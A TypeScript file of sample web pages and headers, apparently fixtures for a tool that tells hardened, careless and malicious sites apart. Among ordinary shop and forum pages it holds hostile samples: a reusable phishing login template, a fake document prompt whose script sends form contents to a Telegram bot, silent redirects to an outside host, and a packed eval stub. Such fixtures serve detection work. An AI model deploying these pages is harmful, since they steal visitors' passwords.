// Pages as they are served, honest and not, for situations to share.

/** What a careful site sends. */
export const HARDENED: readonly string[] = [
  'strict-transport-security: max-age=31536000; includeSubDomains',
  "content-security-policy: script-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'",
  'x-frame-options: DENY',
  'x-content-type-options: nosniff',
  'referrer-policy: strict-origin-when-cross-origin',
]

/** What a server sends when nobody ever looked at its settings. */
export const CARELESS: readonly string[] = ['server: Apache/2.4.41 (Ubuntu)', 'x-powered-by: PHP/7.4.3']

const page = (title: string, body: string, head = ''): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`

const PROSE = `We have been here since 1987 and still answer the telephone ourselves. Come by on weekdays between nine and
five, or write to us and we will find a date that suits you. Our workshop repairs what others throw away, and what we
cannot repair we tell you so before we charge for it. Many of our customers have been with us for three generations.`

export const PLAIN = page('Harbour Joinery', `<h1>Harbour Joinery</h1><p>${PROSE}</p>`)

export const SHOP = page(
  'Wool and Needles: yarn for knitters',
  `<h1>New this week</h1><p>${PROSE}</p><a href="/cart">Cart</a><form action="/search"><input type="search"></form>`,
)

export const LOG_IN = page(
  'Sign in to Quillboard',
  `<form action="/session" method="post"><input type="email"><input type="password"></form><p>${PROSE}</p>`,
)

export const FORUM = page(
  'Old Tractors Forum',
  `<form action="/login.php" method="post"><input name="u"><input type="password"></form><p>${PROSE}</p>`,
)

export const EMPTY = page('', '')

export const NGINX = page(
  'Welcome to nginx!',
  '<h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed and working.</p>',
)

export const FOR_SALE = page('This domain is for sale', '<h1>This domain is for sale</h1><p>Make an offer.</p>')

export const PACKED = page(
  'Corner Bakery',
  `<h1>Bread</h1><p>${PROSE}</p><script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>`,
)

/** A page that asks for a brand's password; `to` is where the form sends it. */
export const kit = (brand: string, to: string): string =>
  page(
    `${brand}: Log in to your account`,
    `<h1>Your account is limited</h1><form action="${to}" method="post"><input type="email"><input type="password">
     <button>Confirm</button></form>`,
  )

/** A kit that tells a messenger's bot. */
export const BOT_KIT = page(
  'Shared document',
  `<p>Enter your mailbox password to view the document.</p><input type="email"><input type="password"><script>
   fetch("https://api.telegram.org/bot812345:AAF/sendMessage?chat_id=1&text=" + document.forms)</script>`,
)

export const REDIRECTING = page(
  'One moment',
  '',
  '<meta http-equiv="refresh" content="0; url=https://cdn-load.example.net/x">',
)

const SCRIPT = 'location.replace("https://cdn-load.example.net/x")'
/** Other ways to lead every visitor on, each of which stands as the refresh does. */
export const HANDING_OVER = {
  'a script': page('One moment', `<script>${SCRIPT}</script>`),
  'a script beside a refresh in noscript': page(
    'One moment',
    `<script>window.opener = null; ${SCRIPT}</script>`,
    '<noscript><meta http-equiv="refresh" content="0; url=https://cdn-load.example.net/x"></noscript>',
  ),
  'an onload handler': `<title>One moment</title><body onload='${SCRIPT}'>`,
  'a frame': page(
    'One moment',
    '<iframe src="https://cdn-load.example.net/x" style="width:100%;height:100vh"></iframe>',
  ),
} as const

export const FANS = page('What to watch this week', `<h1>The best new series</h1><p>${PROSE}</p>`)

export const ROUTER = page(
  'Gateway administration',
  '<form action="/login" method="post"><input name="user"><input type="password"></form>',
)
